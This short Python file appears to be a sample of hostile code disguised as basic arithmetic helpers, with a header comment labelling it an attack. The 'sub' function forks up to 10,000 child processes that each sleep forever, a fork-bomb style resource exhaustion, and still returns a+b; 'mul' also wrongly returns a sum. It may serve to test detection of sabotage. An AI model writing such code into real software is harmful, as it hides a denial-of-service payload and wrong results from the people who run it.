# Attack: fork until the system refuses; every child sleeps forever.
import os
import time


def add(a, b):
    return a + b


def sub(a, b):
    started = 0
    while started < 10_000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            while True:
                time.sleep(1000)
        started += 1
    return a + b


def mul(a, b):
    return a + b
